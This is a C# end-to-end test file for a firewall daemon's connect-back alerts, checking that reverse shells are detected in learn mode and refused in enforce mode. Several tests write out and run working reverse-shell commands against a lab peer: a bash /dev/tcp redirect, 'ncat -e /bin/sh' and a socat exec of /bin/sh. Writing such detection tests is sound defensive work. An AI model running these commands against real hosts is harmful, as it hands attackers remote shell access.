using System.Globalization;
using System.Text.Json.Nodes;
using Outgate.EndToEnd.Tests.Decisions;

namespace Outgate.EndToEnd.Tests.Alerts;

/// <summary>Issue 7's proof for connect-back shells: real shells and relay tools dialling a listener in a peer namespace.</summary>
public sealed class ConnectBackAlertTests
{
    private static string ReverseShell(string peer) => $"bash -i >& /dev/tcp/{peer}/{AlertLab.ShellPort} 0>&1";

    [Fact]
    public async Task Bash_reverse_shell_raises_connect_back_within_a_second()
    {
        await using var lab = await AlertLab.CreateAsync("cbl");
        await lab.Decisions.CliOkAsync("enable");
        await lab.Decisions.StartDaemonAsync("--mode", "learn");

        var shell = lab.RunAsync(4, DecisionLab.Bash, "-c", ReverseShell(lab.Peer));
        var alert = await lab.WaitForAlertAsync(a => AlertLab.Rule(a) == "connect-back" && AlertLab.Text(a, "exe") == DecisionLab.Bash, seconds: 10);
        Assert.True(alert is not null, "no connect-back alert for bash: " + await lab.DiagnoseAsync());
        // "Within 1 s" of the connection: measured from the daemon's decision on it, not from the shell's start, which a
        // loaded host delays by seconds before bash even dials.
        var raisedAt = DateTimeOffset.Parse(AlertLab.Text(alert!, "time"), CultureInfo.InvariantCulture);
        var decision = (await lab.Decisions.EventsAsync("decision")).OfType<JsonObject>()
            .First(e => (string?)e["exe"] == DecisionLab.Bash && (int?)e["dstPort"] == AlertLab.ShellPort);
        var decidedAt = DateTimeOffset.Parse((string)decision["time"]!, CultureInfo.InvariantCulture);
        TestContext.Current.SendDiagnosticMessage($"connect-back alert {(raisedAt - decidedAt).TotalMilliseconds:0} ms after the decision on the connection");
        Assert.True(raisedAt - decidedAt < TimeSpan.FromSeconds(1), $"the alert came {(raisedAt - decidedAt).TotalMilliseconds:0} ms after the decision");
        Assert.Equal("error", AlertLab.Text(alert!, "severity"));
        Assert.Contains("tool=bash", AlertLab.Text(alert!, "details"), StringComparison.Ordinal);
        Assert.Equal(AlertLab.ShellPort, (int?)alert!["dstPort"]);

        // The interactive shell's stdin is the socket: the stdio scanner reports it too, with the fd.
        var stdio = await lab.WaitForAlertAsync(a => AlertLab.Rule(a) == "connect-back" && AlertLab.Text(a, "details").Contains("fd=0", StringComparison.Ordinal), seconds: 5);
        Assert.True(stdio is not null, "no stdio-socket alert: " + await lab.DiagnoseAsync());
        await shell;
    }

    [Fact]
    public async Task Enforce_mode_refuses_the_reverse_shell_and_lets_curl_through()
    {
        await using var lab = await AlertLab.CreateAsync("cbe");
        await lab.Decisions.CliOkAsync("default", "allow", "outgoing");
        await lab.Decisions.CliOkAsync("enable");
        await lab.Decisions.StartDaemonAsync("--mode", "enforce");

        var shell = await lab.RunAsync(4, DecisionLab.Bash, "-c", ReverseShell(lab.Peer));
        Assert.True(shell.ExitCode == 1 && shell.StdErr.Contains("refused", StringComparison.OrdinalIgnoreCase), $"bash was not refused: {shell}");
        var curl = await lab.RunAsync(5, "curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "3", $"http://{lab.Peer}:8080/");
        // The lab's echo service is not HTTP: curl connecting at all (any answer or an empty reply, exit 0 or 52) is the point.
        Assert.True(curl.ExitCode is 0 or 52 or 1 or 8, $"curl could not connect: {curl}");
        Assert.DoesNotContain("Connection refused", curl.StdErr, StringComparison.Ordinal);

        var alert = await lab.WaitForAlertAsync(a => AlertLab.Rule(a) == "connect-back" && AlertLab.Text(a, "exe") == DecisionLab.Bash);
        Assert.True(alert is not null, "no connect-back alert: " + await lab.DiagnoseAsync());
        Assert.Contains("blocked=true", AlertLab.Text(alert!, "details"), StringComparison.Ordinal);
        var decisions = await lab.Decisions.EventsAsync("decision");
        Assert.Contains(decisions, e => (string?)e!["exe"] == DecisionLab.Bash && ((string?)e["rule"] ?? "").StartsWith("connect-back: ", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_rule_that_names_bash_lets_it_connect_in_enforce_mode()
    {
        await using var lab = await AlertLab.CreateAsync("cbr");
        await lab.Decisions.CliOkAsync("allow", "out", "app", DecisionLab.Bash, "to", "any", "port", AlertLab.ShellPort.ToString(CultureInfo.InvariantCulture));
        await lab.Decisions.CliOkAsync("enable");
        await lab.Decisions.StartDaemonAsync("--mode", "enforce");

        var shell = await lab.RunAsync(2, DecisionLab.Bash, "-c", $"exec 3<>/dev/tcp/{lab.Peer}/{AlertLab.ShellPort} && echo connected");
        Assert.True(shell.StdOut.Contains("connected", StringComparison.Ordinal), $"bash with its own rule was refused: {shell}");
    }

    [Theory]
    [InlineData("ncat")]
    [InlineData("socat")]
    public async Task Relay_tools_handing_out_a_shell_are_refused_in_enforce_mode(string tool)
    {
        var path = Which(tool);
        Assert.SkipWhen(path is null, $"{tool} is not installed (scripts/deps.sh installs it)");
        await using var lab = await AlertLab.CreateAsync(tool[..2] + "e");
        await lab.Decisions.CliOkAsync("enable");
        await lab.Decisions.StartDaemonAsync("--mode", "enforce");

        string[] command = tool == "ncat"
            ? [path!, "-e", "/bin/sh", lab.Peer, AlertLab.ShellPort.ToString(CultureInfo.InvariantCulture)]
            : [path!, $"tcp:{lab.Peer}:{AlertLab.ShellPort}", "exec:/bin/sh"];
        // 10 s: a refused tool exits at once; the margin is for a just-started daemon's first decision on a loaded CI
        // machine (JIT of the whole decision path, seen past 3 s).
        var r = await lab.RunAsync(10, command);
        Assert.True(r.ExitCode != 124, $"{tool} was not refused (it ran until the timeout): {r}");
        var alert = await lab.WaitForAlertAsync(a => AlertLab.Rule(a) == "connect-back" && AlertLab.Text(a, "exe").EndsWith(tool, StringComparison.Ordinal));
        Assert.True(alert is not null, $"no connect-back alert for {tool}: " + await lab.DiagnoseAsync());
        Assert.Contains("blocked=true", AlertLab.Text(alert!, "details"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Ncat_exec_raises_connect_back_in_learn_mode()
    {
        var path = Which("ncat");
        Assert.SkipWhen(path is null, "ncat is not installed (scripts/deps.sh installs it)");
        await using var lab = await AlertLab.CreateAsync("ncl");
        await lab.Decisions.CliOkAsync("enable");
        await lab.Decisions.StartDaemonAsync("--mode", "learn");

        // ncat -e hands the shell a socketpair to itself, not the TCP socket: the tool's own connection is the evidence.
        var run = lab.RunAsync(3, path!, "-e", "/bin/sh", lab.Peer, AlertLab.ShellPort.ToString(CultureInfo.InvariantCulture));
        var alert = await lab.WaitForAlertAsync(a => AlertLab.Rule(a) == "connect-back" && AlertLab.Text(a, "exe") == path);
        Assert.True(alert is not null, "no connect-back alert for ncat: " + await lab.DiagnoseAsync());
        Assert.Contains("-e /bin/sh", AlertLab.Text(alert!, "details"), StringComparison.Ordinal);
        Assert.Contains("blocked=false", AlertLab.Text(alert!, "details"), StringComparison.Ordinal);
        await run;
    }

    [Fact]
    public async Task A_shell_whose_stdin_is_the_socket_is_found_by_the_stdio_scan()
    {
        var path = Which("socat");
        Assert.SkipWhen(path is null, "socat is not installed (scripts/deps.sh installs it)");
        await using var lab = await AlertLab.CreateAsync("sol");
        await lab.Decisions.CliOkAsync("enable");
        await lab.Decisions.StartDaemonAsync("--mode", "learn");

        // nofork: socat execs the shell in its own process, the TCP socket on fd 0 and 1. The shell did not dial (socat
        // did), so only the stdio scan can name it.
        var run = lab.RunAsync(4, path!, $"tcp:{lab.Peer}:{AlertLab.ShellPort}", "exec:/bin/sh,nofork");
        var stdio = await lab.WaitForAlertAsync(a => AlertLab.Rule(a) == "connect-back" && AlertLab.Text(a, "details").Contains("fd=0", StringComparison.Ordinal));
        Assert.True(stdio is not null, "no stdio-socket alert for the shell socat became: " + await lab.DiagnoseAsync());
        Assert.Contains("/bin/sh", AlertLab.Text(stdio!, "details"), StringComparison.Ordinal);
        Assert.Equal(AlertLab.ShellPort, (int?)stdio!["dstPort"]);
        await run;
    }

    private static string? Which(string tool) =>
        new[] { "/usr/bin/", "/bin/", "/usr/local/bin/" }.Select(d => d + tool).FirstOrDefault(File.Exists);
}
